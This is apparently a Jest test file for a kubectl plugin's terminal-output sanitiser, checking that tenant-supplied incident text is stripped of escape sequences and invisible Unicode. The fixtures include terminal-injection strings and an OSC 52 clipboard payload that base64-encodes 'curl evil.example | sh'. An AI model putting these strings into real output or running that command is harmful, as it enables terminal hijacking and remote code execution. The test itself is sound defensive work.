// Remote text on the terminal: what a tenant, a receiver or an alert rule wrote reaches `kubectl
// incident show` (and every other line the plugin prints) without escape sequences or control
// characters, so it can neither clear the screen, overwrite lines already shown, set the clipboard
// nor retitle the window; newlines the layout uses stay.
import { describe, expect, it } from '@jest/globals';
import { runCli } from '../../src/cli/cli.ts';
import { showIncident } from '../../src/cli/render.ts';
import { forTerminal } from '../../src/cli/terminal.ts';
import { incident, iso, T0 } from './fixtures.ts';

const CLEAR = '\u001b[2J\u001b[H';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const TITLE = '\u001b]0;owned\u001b\\';
const OVERWRITE = 'all good\rPhase:       Resolved';
const C1_CSI = '\u009b31m';
const BIDI = 'abc\u202Edcba';

/** Any C0 but the newline, DEL or C1 control character. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('forTerminal', () => {
  it.each([
    ['a screen clear', `before${CLEAR}after`, 'beforeafter'],
    ['an OSC 52 clipboard write', `copy${CLIPBOARD}me`, 'copyme'],
    ['a window title (OSC ended by ST)', `x${TITLE}y`, 'xy'],
    ['a carriage return that would overwrite the line', OVERWRITE, 'all goodPhase:       Resolved'],
    ['an 8-bit CSI', `red${C1_CSI}text`, 'redtext'],
    ['bidirectional overrides', BIDI, 'abcdcba'],
    ['a lone ESC and BEL', 'a\u001b\u0007b', 'ab'],
    ['tabs, as spaces', 'a\tb', 'a b'],
    ['an OSC left open: up to the end of its line only', 'a\u001b]52;c;xx\nnext line', 'a\nnext line'],
    ['zero-width spaces, joiners and the BOM', 'a\u200bb\u200cc\u200dd\u2060e\ufeff', 'abcde'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'abc'],
    ['tag characters', 'a\u{E0041}\u{E007F}b', 'ab'],
    ['interlinear annotation marks', 'a\ufff9b\ufffac\ufffb', 'abc'],
    ['the Arabic letter mark and a soft hyphen', 'a\u061cb\u00adc', 'abc'],
    ['Hangul fillers (blank lookalikes)', 'ad\u3164min\u115f\u1160\uffa0', 'admin'],
  ])('removes %s', (_what, input, expected) => {
    expect(forTerminal(input)).toBe(expected);
  });

  it('keeps newlines and every printable character, unicode included', () => {
    const text = 'line 1\nZürich — 字 😀 \\e[2J';
    expect(forTerminal(text)).toBe(text);
  });
});

describe('kubectl incident show with hostile text', () => {
  const hostile = incident({
    spec: {
      title: `checkout ${CLEAR}down`,
      description: `see ${CLIPBOARD}runbook`,
      resolution: { resolvedBy: `mallory${TITLE}`, note: OVERWRITE },
    },
    status: {
      phase: 'Escalated',
      context: [`replicas 0/2${C1_CSI}`],
      timeline: [{ time: iso(0), type: 'Opened', message: `opened ${CLEAR}${CLIPBOARD}` }],
      notifications: [
        {
          id: 'L1:oncall',
          receiver: 'oncall',
          event: 'trigger',
          state: 'Failed',
          attempts: 1,
          recordedAt: iso(0),
          message: `answered 500${OVERWRITE}`,
        },
      ],
    },
  });

  it('prints no control character but the newlines of its layout', () => {
    const printed = forTerminal(showIncident(hostile, T0));
    expect(printed).not.toMatch(CONTROL);
    expect(printed).toContain('checkout down');
    expect(printed).toContain('see runbook');
    expect(printed.split('\n').length).toBe(showIncident(hostile, T0).split('\n').length);
  });

  it('passes every line the plugin prints through the filter, errors included', async () => {
    const out: string[] = [];
    const err: string[] = [];
    const code = await runCli([`sh${CLEAR}ow${CLIPBOARD}`], {
      out: (t) => out.push(t),
      err: (t) => err.push(t),
    });
    expect(code).toBe(2);
    expect(err.join('\n')).toContain('unknown command "show"');
    expect([...out, ...err].join('\n')).not.toMatch(CONTROL);
  });
});
